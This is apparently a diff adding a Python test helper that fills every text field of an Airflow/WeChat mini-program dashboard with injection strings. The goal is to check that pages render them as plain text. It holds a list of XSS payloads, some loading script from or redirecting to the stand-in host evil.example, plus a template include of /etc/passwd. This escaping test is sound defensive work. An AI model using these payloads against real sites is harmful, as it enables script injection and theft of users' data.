@@ -1,0 +1,79 @@
+"""What somebody might write in the hope that a browser takes it for more than text."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import TYPE_CHECKING
+from urllib.parse import urlencode
+
+from airflow_wxa.api.webview_domain import setwebviewdomain
+from airflow_wxa.errors import WxaApiError
+from airflow_wxa.store import Ledger, TaskRef
+from airflow_wxa.store.fleets import Fleets, NewApp, RunKey
+from airflow_wxa.store.ledger import Result
+
+if TYPE_CHECKING:
+    from airflow_wxa.api.call import Call
+
+PLATFORM = "wx00000000000000c1"
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt/src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "' onmouseover='alert(1)",
+    "x onclick=alert(1) y",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    '<a href="javascript:alert(1)">here</a>',
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<form action=//evil.example/><button>go</button></form>",
+    "<details open ontoggle=alert(1)>",
+    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
+    "{text.__class__.__mro__}",
+    "\u2028<img/src/onerror=alert(1)>\u2029",
+    "\x08<scr\x0bipt>alert(1)</scr\x0bipt>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;<plaintext>",
+    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+]  # fmt: skip
+
+
+def _asking(text: str, appid: str) -> Call:
+    return replace(setwebviewdomain(appid, "get"), body={"action": "set", "webviewdomain": [text]})
+
+
+def fill_with(url: str, text: str, appid: str) -> list[str]:
+    """Fill every text that WeChat or a merchant can set, and those of Airflow that a person chooses.
+
+    :return: the board's pages that show them, the second of which is asked with them.
+    """
+    ledger = Ledger(url)
+    task = TaskRef(dag_id=text, run_id=text, task_id=text, triggered_by=text)
+    (noted,) = ledger.intend(PLATFORM, [_asking(text, appid)], task)
+    ledger.answered({noted: WxaApiError("refused", errcode=89021, errmsg=text, rid=text)})
+    ledger.decided(PLATFORM, appid, task, {"outcome": "approved", "by": text, "why": text})
+    texts = ("what", "next_step", "reason", "user_version", "auditid", "name", "wave", "release_version")
+    said = {"outcome": text, **dict.fromkeys(texts, text), "screenshot": [text], "effective": [text]}
+    listed = {"after": [text], "published": [text], "files": [text]}
+    results = [Result(appid, "setwebviewdomain", {**said, **listed, "errcode": 89021}, resolves=False)]
+    ledger.settle(PLATFORM, task, results)
+    fleets, key = Fleets(url), RunKey(text, text)
+    fleets.load(key, PLATFORM, {"release": {"user_version": text}}, "digest", [NewApp(appid, text, 0, {"name": text})])
+    fleets.change(key, {0: {"outcome": "blocked", "errcode": 61007, "what": text}})
+    run = urlencode({"dag_id": text, "run_id": text})
+    asked = urlencode({"q": text, "wave": text, "outcome": text, text: text})
+    pages = ["/", f"/?{asked}", f"/?{run}", f"/mini-program/{appid}", "/fleets", f"/fleet?{run}"]
+    return [*pages, f"/errcodes?{urlencode({'q': text})}"]
